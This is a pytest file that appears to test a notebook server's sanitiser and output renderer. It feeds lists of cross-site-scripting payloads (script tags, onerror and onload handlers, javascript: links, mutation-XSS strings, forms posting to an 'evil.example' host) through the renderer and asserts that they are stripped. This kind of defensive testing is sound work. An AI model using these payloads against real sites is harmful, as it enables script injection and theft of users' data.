"""Outputs as markup: they look as they should, and nothing of a notebook runs, loads or asks on a page of ours."""

from __future__ import annotations

from base64 import b64encode
from html.parser import HTMLParser
from typing import Any

import nbformat.v4
import pandas as pd  # type: ignore[import-untyped]
import pytest

from flownb.server.pages import Pages
from flownb.server.rendering import LONGEST_MARKDOWN, LONGEST_TEXT, MOST, Room, markdown_html, outputs_html
from flownb.server.sanitise import MOST_ENTITIES, MOST_TAGS, TAGS

PNG = b64encode(b"\x89PNG\r\n\x1a\n and so on").decode()

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('1');\">",
    "<img src=`javascript:alert(1)`>",
    '<img src="http://evil.example/track.png">',
    '<img src="//evil.example/track.png">',
    '<img srcset="http://evil.example/a.png 1x">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="cid:x" lowsrc="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body { display: none }</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<p class='go' id='by' name='nonce'>x</p>",
    "<form action='https://evil.example'><input name=a><button>Approve</button></form>",
    "<form action='../resume/x' method=post><button class=go>Approve</button></form>",
    "<button form=decision formaction='https://evil.example'>Approve</button>",
    "<input type=hidden name=nonce value=x>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1)><option>x</option></select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='../resume/token'>x</a>",
    "<a href='/flownb/api/executions' target=_top ping='https://evil.example'>x</a>",
    "<a href=https://fine.example onclick=alert(1)>x</a>",
    "</div></main><h1>Approved</h1>",
    "</pre></style><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<xss onpointerenter=alert(1)>x</xss>",
    "<b/onmouseover=alert(1)>x</b>",
    "\ud83d<script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/track.png)",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\nx\n```",
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "$x</p><script>alert(1)</script>$",
    "\\begin{equation}<script>alert(1)</script>\\end{equation}",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "![x](attachment:x.png)",
]
ANSI = [
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    '\x1b[38;2;1;2;3"onmouseover=alert(1)m<b>x</b>',
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07<img src=x onerror=alert(1)>",
    "a\rb<script>\x1b[1malert(1)\x1b[m</script>",
]


class Strict(HTMLParser):
    """Reads markup as a browser would, and objects to everything that is not plainly harmless."""

    ALLOWED = TAGS | {"div", "span", "p", "pre"}

    def __init__(self, html: str) -> None:
        super().__init__()
        self.depth = 0
        self.feed(html)
        self.close()
        assert self.depth == 0, html

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in self.ALLOWED, tag
        for name, value in attributes:
            assert not name.startswith("on"), name
            assert name not in ("style", "id", "name", "target", "srcset", "action"), name
            if name == "href":
                assert value is not None
                assert value.startswith(("https://", "http://", "mailto:")), value
            if name == "src":
                assert value is not None
                assert value.startswith("data:image/"), value
                assert ";base64," in value, value
            if name == "class":
                assert not {"go", "stop", "box", "choices"} & set((value or "").split()), value
        self.depth += tag == "div"

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag == "div"
        assert self.depth >= 0, "closes what it has not opened"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


class Tags(HTMLParser):
    """The tags of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)


def bundle(**data: Any) -> dict[str, Any]:
    """An output in types such as ``text__html``."""
    types = {name.replace("__", "/").replace("_plus_", "+"): value for name, value in data.items()}
    return {"output_type": "display_data", "data": types, "metadata": {}}


def stream(text: str) -> dict[str, Any]:
    return dict(nbformat.v4.new_output("stream", name="stdout", text=text))


def shown(*outputs: dict[str, Any]) -> str:
    html = outputs_html(outputs)
    Strict(html)
    return html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_output_gets_through(attack: str) -> None:
    for kind in ("text/html", "text/markdown", "image/svg+xml", "text/latex", "text/plain", "image/png"):
        shown({"output_type": "display_data", "data": {kind: attack, "text/plain": attack}, "metadata": {}})
    shown({"output_type": "display_data", "data": {attack: attack}, "metadata": {attack: attack}})
    shown(stream(attack))
    shown({"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]})
    shown({"output_type": "error", "ename": attack, "evalue": attack, "traceback": []})
    Strict(markdown_html(attack))


@pytest.mark.parametrize("attack", MARKDOWN)
def test_nothing_in_markdown_gets_through(attack: str) -> None:
    Strict(markdown_html(attack, {"x.png": {"text/html": "<script>", 'x" onerror="alert(1)': "x"}}))
    shown(bundle(text__markdown=attack))


@pytest.mark.parametrize("attack", ANSI)
def test_nothing_in_a_terminals_text_gets_through(attack: str) -> None:
    html = shown(stream(attack))
    assert "javascript" not in html
    assert "\x1b" not in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_template_gets_through(attack: str) -> None:
    """The words that people and notebooks choose: names, reason, comment."""
    page = Pages().render(
        "answer.html", title=attack, message=attack, facts=[(attack, attack)], errors={attack: attack}
    )
    body = page.html.partition("<body><main>")[2].partition("</main></body>")[0]
    assert Tags(body).found <= {"h1", "p", "ul", "li", "b", "dl", "dt", "dd"}


def test_an_svg_is_a_picture() -> None:
    html = shown(bundle(image__svg_plus_xml="<svg onload='alert(1)'></svg>", text__plain="<plot>"))
    assert html.count("<img ") == 1
    assert 'alt="plot"' in html
    assert "data:image/svg+xml;base64," in html


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("image/png", PNG),
        ("image/jpeg", b64encode(b"\xff\xd8\xff\xe0").decode()),
        ("image/gif", b64encode(b"GIF89a").decode()),
        ("image/png", PNG[:9] + "\n" + PNG[9:]),
    ],
)
def test_pictures(kind: str, data: str) -> None:
    output = {"output_type": "display_data", "data": {kind: data}, "metadata": {kind: {"width": 300, "height": "1"}}}
    html = shown(output)
    assert f'src="data:{kind};base64,{"".join(data.split())}"' in html
    assert 'width="300"' in html
    assert "height=" not in html


@pytest.mark.parametrize("data", [PNG[:-3] + "!", b64encode(b"<svg onload=alert(1)>").decode(), "", '" onerror="x', 7])
def test_what_is_no_picture_is_told_by_its_text(data: Any) -> None:
    assert "a picture of mine" in shown(bundle(image__png=data, text__plain="a picture of mine"))


def test_a_table_of_pandas_stays_a_table() -> None:
    frame = pd.DataFrame({"orders": [12, 340], "note": ["<b>bold</b>", "&"]}, index=["north", "south"])
    html = shown(bundle(text__html=frame._repr_html_(), text__plain=repr(frame)))
    assert '<table class="dataframe">' in html
    for text in ("<th>orders</th>", "<th>south</th>", "<td>340</td>", "&lt;b&gt;bold&lt;/b&gt;", "<td>&amp;</td>"):
        assert text in html
    styled = shown(bundle(text__html=frame.style.background_gradient().to_html()))
    assert "<td>340</td>" in styled
    assert "background-color" not in styled


def test_markdown_is_rendered_and_its_headings_come_below_the_pages() -> None:
    html = markdown_html("## Totals\n\n**bold** and `code`\n\n- one\n\n### Part\n\n| a |\n|---|\n| 1 |\n\n$x^2$")
    for text in ("<h3>Totals</h3>", "<strong>bold</strong>", "<li>one</li>", "<h4>Part</h4>", "<td>1</td>", "$x^2$"):
        assert text in html
    assert 'tabindex="0"' in html  # a table may be wider than a phone
    picture = markdown_html("![plot](attachment:plot.png)", {"plot.png": {"image/png": PNG}})
    assert f'src="data:image/png;base64,{PNG}"' in picture
    Strict(picture)


def test_links_to_elsewhere_stay() -> None:
    html = shown(bundle(text__html='<a href="https://example.org/a?b=1">see</a>'))
    assert '<a href="https://example.org/a?b=1" rel="noopener noreferrer">see</a>' in html


def test_colours_and_progress_of_a_terminal() -> None:
    html = shown(stream("\x1b[31mred\x1b[0m \x1b[1mbold\x1b[0m\n 10%\r 50%\r100%\r\nend"))
    assert '<span class="ansi-red-fg">red</span>' in html
    assert '<span class="ansi-bold">bold</span>' in html
    assert "\n100%\nend" in html
    assert "50%" not in html


def test_an_error_is_its_traceback_or_its_name() -> None:
    plain = {"output_type": "error", "ename": "ValueError", "evalue": "no <b>", "traceback": []}
    assert "ValueError: no &lt;b&gt;" in shown(plain)
    assert "line 1" in shown({**plain, "traceback": ["\x1b[31mline 1\x1b[0m", "line 2"]})


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ({"text__html": "<b>best</b>", "text__plain": "plain"}, "<b>best</b>"),
        ({"text__html": "<script>draw()</script>", "text__plain": "Figure of plotly"}, "Figure of plotly"),
        ({"text__html": "<script>draw()</script>", "image__png": PNG, "text__plain": "x"}, "data:image/png"),
        ({"text__html": "<b>x</b><script>draw()</script>"}, "is left out of this output"),
        ({"text__latex": "$\\frac{1}{2}$", "text__plain": "1/2"}, "$\\frac{1}{2}$"),
        (
            {"application__vnd.jupyter.widget-view+json": {"model_id": "x"}, "text__plain": "IntSlider(3)"},
            "IntSlider(3)",
        ),
        ({"application__javascript": "alert(1)", "text__plain": "<Javascript>"}, "A script of the notebook"),
        ({"application__pdf": "JVBERi0"}, "not shown here (application/pdf)"),
        ({"text__plain": ["two ", "pieces"]}, "two pieces"),
        ({"text__plain": {"no": "text"}}, "no"),
        ({}, "not shown here (empty)"),
    ],
)
def test_the_best_of_the_safe_types_is_shown(data: dict[str, Any], words: str) -> None:
    html = shown(bundle(**data))
    assert words in html
    assert "draw()" not in html
    assert "alert" not in html


def test_what_does_not_fit_is_left_out_and_counted() -> None:
    large = b64encode(b"\x89PNG\r\n\x1a\n" + bytes(MOST)).decode()
    html = shown(bundle(image__png=large), stream("small"), bundle(image__png=large))
    assert "small" in html
    assert "2 outputs are too large to be shown here (5.3 MB)." in html
    assert len(html) < 1000
    room = Room(left=10)
    assert outputs_html([stream("small")], room) == ""
    assert "1 output is too large" in room.note()


def test_of_a_long_text_the_beginning_and_the_end_are_shown() -> None:
    html = shown(stream("begin " + "x" * LONGEST_TEXT + " end"))
    assert "begin" in html
    assert "end</pre>" in html
    assert "10 characters are left out here" in html


def test_what_would_take_long_is_not_tried() -> None:
    deep = "<div>" * (MOST_TAGS + 1)
    copied = "<p>" + "".join(f"<b class=a{number}>" for number in range(3000)) + "<p>x" * 3000
    for html in (deep, copied, "&" * (MOST_ENTITIES + 1)):
        assert "too large to be shown here" in shown(bundle(text__html=html))
        assert "too large to be shown here" not in shown(bundle(text__html="<div>" * 50 + "x"))
    long = "# no heading " + "x" * LONGEST_MARKDOWN
    assert "<pre># no heading" in markdown_html(long)


def test_half_a_character_can_be_sent() -> None:
    for html in (shown(stream("\ud83d")), shown(bundle(text__html="<b>\ud83d</b>")), markdown_html("\ud83d")):
        html.encode()
